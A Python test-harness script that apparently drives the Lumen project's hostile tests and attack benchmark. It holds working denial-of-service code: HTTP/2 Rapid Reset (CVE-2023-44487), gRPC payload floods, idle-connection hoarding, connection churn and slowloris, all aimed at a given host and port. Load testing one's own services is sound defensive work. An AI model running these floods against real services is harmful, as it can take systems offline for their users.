#!/usr/bin/env python3
"""attack.py - what a stranger on the network (no token) throws at a Lumen
port, for the hostile tests and bench/attack_bench. Test plumbing.

    attack.py rapid-reset HOST PORT CONNS STREAMS PATH
        CONNS connections, each opening and at once resetting streams of
        PATH (HEADERS + RST_STREAM, CVE-2023-44487) as fast as the socket
        takes them; a connection the server drops is opened again until
        STREAMS streams per connection went out.
    attack.py big-payload HOST PORT STREAMS BYTES PATH
        STREAMS calls at once, each a gRPC message of BYTES bytes (sent as
        flow control allows), again as each one ends, for 3 s.
    attack.py idle HOST PORT CONNS SECONDS
        CONNS TCP connections that say nothing, held SECONDS.
    attack.py churn HOST PORT SECONDS [THREADS]
        connect and close, in a loop, for SECONDS.
    attack.py slowloris HOST PORT CONNS SECONDS
        CONNS HTTP/1.1 connections sending a valid request one byte a second.

The stranger is another host: against a loopback address its connections
come from 127.0.0.2 ($LUMEN_ATTACK_SOURCE overrides), so the members the
tests run beside it (from 127.0.0.1) are told apart by address, as the
services' per-address limits would tell them apart on a network.

Prints one line of counts when done. Frames come from h2's own libraries
(hpack, hyperframe): real HTTP/2, at the speed of a client that cares only
about sending.
"""
import os
import select
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def grpc_headers(host, port, path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "%s:%d" % (host, port)),
            ("content-type", "application/grpc"), ("te", "trailers")]


def source(host):
    """The address the attacker's connections come from (None: any)."""
    src = os.environ.get("LUMEN_ATTACK_SOURCE")
    if src is None and host.startswith("127."):
        src = "127.0.0.2"
    return (src, 0) if src else None


def connect(host, port):
    s = socket.create_connection((host, port), timeout=5, source_address=source(host))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def rapid_reset(host, port, conns, streams, path):
    # The header block never changes: encoded once, without indexing, so every
    # stream reuses its bytes (the dynamic table stays empty).
    block = Encoder().encode(grpc_headers(host, port, path), huffman=False)
    opened = [0] * conns
    sent = [0] * conns

    def one(i):
        while sent[i] < streams:
            opened[i] += 1
            try:
                s = connect(host, port)
                s.sendall(PREFACE + SettingsFrame(0).serialize())
                sid = 1
                while sent[i] < streams:
                    burst = []
                    for _ in range(min(500, streams - sent[i])):
                        h = HeadersFrame(sid)
                        h.flags.add("END_HEADERS")
                        h.data = block
                        burst.append(h.serialize())
                        burst.append(RstStreamFrame(sid, error_code=8).serialize())  # CANCEL
                        sid += 2
                    s.sendall(b"".join(burst))
                    sent[i] += len(burst) // 2
                s.close()
            except OSError:
                time.sleep(0.01)  # dropped: come back

    run_threads(one, conns)
    print("rapid-reset: %d streams on %d connections" % (sum(sent), sum(opened)))


def big_payload(host, port, streams, size, path):
    chunk = bytes(1 << 20)
    calls = [0]
    deadline = time.time() + 3

    def one(_):
        while time.time() < deadline:
            try:
                s = connect(host, port)
                c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                c.initiate_connection()
                left = {}
                for _ in range(streams):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, grpc_headers(host, port, path))
                    c.send_data(sid, b"\x00" + size.to_bytes(4, "big"))
                    left[sid] = size
                    calls[0] += 1
                s.sendall(c.data_to_send())
                while left and time.time() < deadline:
                    for sid in list(left):  # as much as the server's windows take (its frames may be big)
                        n = min(len(chunk), left[sid], c.local_flow_control_window(sid), c.max_outbound_frame_size)
                        if n > 0:
                            c.send_data(sid, chunk[:n])
                            left[sid] -= n
                    s.sendall(c.data_to_send())
                    if not select.select([s], [], [], 0.01)[0]:
                        continue
                    data = s.recv(1 << 16)
                    if not data:
                        break
                    for ev in c.receive_data(data):
                        if isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                            left.pop(ev.stream_id, None)
                    s.sendall(c.data_to_send())
                s.close()
            except (OSError, h2.exceptions.ProtocolError):
                time.sleep(0.01)

    run_threads(one, 1)
    print("big-payload: %d calls of %d bytes" % (calls[0], size))


def open_many(host, port, conns):
    held = []
    for _ in range(conns):
        try:
            held.append(connect(host, port))
        except OSError:
            pass
    return held


def idle(host, port, conns, seconds):
    held = open_many(host, port, conns)
    print("idle: %d connections open" % len(held), flush=True)
    time.sleep(seconds)
    for s in held:
        s.close()


def churn(host, port, seconds, threads):
    done = [0] * threads
    deadline = time.time() + seconds

    def one(i):
        while time.time() < deadline:
            try:
                s = socket.socket()
                s.settimeout(1)  # a full backlog must not stop the loop
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
                if source(host):
                    s.bind(source(host))
                s.connect((host, port))
                s.close()
                done[i] += 1
            except OSError:
                pass

    run_threads(one, threads)
    print("churn: %d connections in %.1f s" % (sum(done), seconds))


def slowloris(host, port, conns, seconds):
    request = b"GET /api/summary HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 4096 + b"\r\n\r\n"
    socks = open_many(host, port, conns)
    deadline = time.time() + seconds
    k = 0
    while time.time() < deadline:
        for s in socks:
            try:
                s.send(request[k:k + 1])
            except OSError:
                pass
        k += 1
        time.sleep(1)
    print("slowloris: %d connections, %d bytes each" % (len(socks), k))


def run_threads(fn, n):
    ts = [threading.Thread(target=fn, args=(i,)) for i in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def main(argv):
    mode, host, port = argv[1], argv[2], int(argv[3])
    args = argv[4:]
    if mode == "rapid-reset":
        rapid_reset(host, port, int(args[0]), int(args[1]), args[2])
    elif mode == "big-payload":
        big_payload(host, port, int(args[0]), int(args[1]), args[2])
    elif mode == "idle":
        idle(host, port, int(args[0]), float(args[1]))
    elif mode == "churn":
        churn(host, port, float(args[0]), int(args[1]) if args else 4)
    elif mode == "slowloris":
        slowloris(host, port, int(args[0]), float(args[1]))
    else:
        sys.exit("unknown mode " + mode)


if __name__ == "__main__":
    main(sys.argv)
